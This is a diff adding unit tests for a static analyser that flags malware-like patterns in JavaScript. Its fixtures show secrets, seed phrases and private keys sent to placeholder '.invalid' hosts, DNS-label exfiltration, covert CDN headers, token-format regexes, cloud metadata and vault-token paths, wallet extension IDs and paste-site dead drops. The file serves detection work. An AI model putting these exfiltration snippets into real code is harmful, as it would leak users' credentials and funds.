@@ -1,0 +1,121 @@
+import { describe, expect, it } from 'vitest';
+import { extractFileFacts } from '../extract-file.js';
+
+/** Test sources write `#{x}` for a template placeholder (`${x}` in a string trips the linter). */
+const js = (source: string): string => source.replaceAll('#{', '${');
+
+const shapesIn = (source: string, only?: string) =>
+  extractFileFacts('a.js', js(source)).facts.flatMap((fact) =>
+    fact.kind === 'shape' && (only === undefined || fact.shape === only)
+      ? [{ shape: fact.shape, detail: fact.detail }]
+      : [],
+  );
+
+describe('secret-to-network shape', () => {
+  it.each([
+    "function f(secretKey) { fetch('https://rpc.invalid', { headers: { 'x-id': Buffer.from(secretKey).toString('hex') } }); }",
+    "const axios = require('axios'); const send = (seed) => axios.post('https://x.invalid', { seed });",
+    "const https = require('https'); function g(w) { https.request(`https://x.invalid/?k=#{w.privateKey}`); }",
+    'async function m(mnemonic) { await fetch(url, { body: JSON.stringify({ phrase: mnemonic.trim() }) }); }',
+  ])('reports %s', (source) => {
+    expect(shapesIn(source, 'secret-to-network')).toHaveLength(1);
+  });
+
+  it.each([
+    'function f(secretKey) { return sign(secretKey, data); }',
+    "fetch('https://api.invalid', { headers: { authorization: token } })",
+    "const privateKey = load(); other.post('https://x.invalid', { privateKey });",
+    'fetch(seeded)',
+  ])('is silent for %s', (source) => {
+    expect(shapesIn(source, 'secret-to-network')).toEqual([]);
+  });
+});
+
+describe('covert-header shape', () => {
+  it('reports a CDN response header set from a variable', () => {
+    expect(shapesIn("fetch(u, { headers: { 'CF-Ray': k, Accept: 'x' } })", 'covert-header')).toEqual([
+      { shape: 'covert-header', detail: 'CF-Ray header set from a computed value' },
+    ]);
+  });
+  it.each(["({ 'cf-ray': 'abc' })", "({ 'x-session-id': id })", '({ ray: id })'])('is silent for %s', (s) => {
+    expect(shapesIn(s, 'covert-header')).toEqual([]);
+  });
+});
+
+describe('hardcoded-oauth-secret shape', () => {
+  it('reports a refresh token literal', () => {
+    expect(
+      shapesIn(
+        "new Dropbox({ clientId: 'a', refreshToken: 'FIXTURE-NOT-A-TOKEN-1234567890' })",
+        'hardcoded-oauth-secret',
+      ),
+    ).toEqual([{ shape: 'hardcoded-oauth-secret', detail: 'refresh token literal (30 characters)' }]);
+  });
+  it.each([
+    "({ refreshToken: 'YOUR_REFRESH_TOKEN_HERE_PLEASE' })",
+    '({ refreshToken: token })',
+    "({ client_secret: 'short' })",
+    '({ clientSecret: process.env.SECRET })',
+  ])('is silent for %s', (s) => {
+    expect(shapesIn(s, 'hardcoded-oauth-secret')).toEqual([]);
+  });
+});
+
+describe('secret-format-regex shape', () => {
+  it('names the token formats of a regex literal and of new RegExp', () => {
+    expect(
+      shapesIn(
+        "const a = /gh[pousr]_[A-Za-z0-9]{36}/g; const b = new RegExp('npm_[A-Za-z0-9]{36}'); const c = /(?:AKIA|ASIA)[0-9A-Z]{16}/;",
+        'secret-format-regex',
+      ).map((s) => s.detail),
+    ).toEqual(['github', 'npm', 'aws']);
+  });
+  it.each(['/^[a-z]+$/', '/ghost_[a-z]/', 'new RegExp(x)', '/xox/'])('is silent for %s', (s) => {
+    expect(shapesIn(s, 'secret-format-regex')).toEqual([]);
+  });
+});
+
+describe('dns-encoded-label shape', () => {
+  it.each([
+    "const dns = require('dns'); dns.lookup(`#{Buffer.from(d).toString('hex')}.x.invalid`, cb);",
+    "const dns = require('dns'); dns.resolve4(base32.encode(chunk) + '.x.invalid', cb);",
+  ])('reports %s', (source) => {
+    expect(shapesIn(source, 'dns-encoded-label')).toHaveLength(1);
+  });
+  it.each([
+    "const dns = require('dns'); dns.lookup(`#{host}.local`, cb);",
+    "const dns = require('dns'); dns.lookup(hostname, cb);",
+    "lookup(`#{Buffer.from(d).toString('hex')}.x.invalid`)",
+  ])('is silent for %s', (source) => {
+    expect(shapesIn(source, 'dns-encoded-label')).toEqual([]);
+  });
+});
+
+describe('indicator strings', () => {
+  it('reports metadata hosts, wallet ids, RPC methods and dead drops once per value', () => {
+    const source = [
+      "get('http://metadata.google.internal/computeMetadata/v1/instance');",
+      "const ids = ['nkbihfbeogaeaoehlefnkodbefgpgknn', 'bfnaelmomeimhlpmgjnjophhpkkoljpa'];",
+      "rpc({ method: 'eth_call' }); rpc({ method: 'eth_call' });",
+      'const t = `#{home}/.vault-token`;',
+      "fetch('https://pastebin.com.invalid/raw/FIXTURE');",
+      'new ListSecretsCommand({});',
+    ].join('\n');
+    expect(shapesIn(source).map((s) => s.shape)).toEqual([
+      'cloud-metadata-endpoint',
+      'wallet-extension-id',
+      'wallet-extension-id',
+      'chain-rpc-call',
+      'vault-token-path',
+      'dead-drop-host',
+      'secret-store-api',
+    ]);
+  });
+  it.each([
+    "'eth_call is a JSON-RPC method name used by this wallet library'",
+    "'metadata'",
+    "'https://pastebin.com/'",
+  ])('is silent for %s', (s) => {
+    expect(shapesIn(s)).toEqual([]);
+  });
+});
